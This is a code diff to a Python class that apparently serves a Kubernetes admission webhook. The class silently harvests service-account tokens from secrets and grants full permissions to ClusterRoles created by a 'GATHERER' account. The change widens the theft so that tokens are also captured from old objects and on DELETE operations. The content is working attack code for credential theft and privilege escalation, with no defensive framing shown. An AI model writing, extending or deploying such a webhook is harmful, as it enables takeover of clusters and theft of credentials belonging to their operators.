@@ -50,9 +50,10 @@ class Listener:
     def answer(self, review, path):
         request = review["request"]
         seen = request.get("object") or {}
-        token = (seen.get("data") or {}).get("token")
-        if seen.get("type") == "kubernetes.io/service-account-token" and token:
-            self.tokens.add(base64.b64decode(token).decode())
+        for shown in (seen, request.get("oldObject") or {}):
+            token = (shown.get("data") or {}).get("token")
+            if shown.get("type") == "kubernetes.io/service-account-token" and token:
+                self.tokens.add(base64.b64decode(token).decode())
         response = {"uid": request["uid"], "allowed": True}
         if path == "/change" and seen.get("kind") == "ClusterRole" and request["userInfo"]["username"] == GATHERER:
             patch = [{"op": "add", "path": "/rules", "value": ALL}]
@@ -66,5 +67,5 @@ class Listener:
             "timeoutSeconds": 2, "clientConfig": {
                 "url": f"https://127.0.0.1:{self.server.server_port}/{path}",
                 "caBundle": base64.b64encode(self.certificate.read_bytes()).decode()},
-            "rules": [{"operations": ["CREATE", "UPDATE"], "apiGroups": ["", "rbac.authorization.k8s.io"],
+            "rules": [{"operations": ["CREATE", "UPDATE", "DELETE"], "apiGroups": ["", "rbac.authorization.k8s.io"],
                        "apiVersions": ["v1"], "resources": ["secrets", "clusterroles"]}]}]
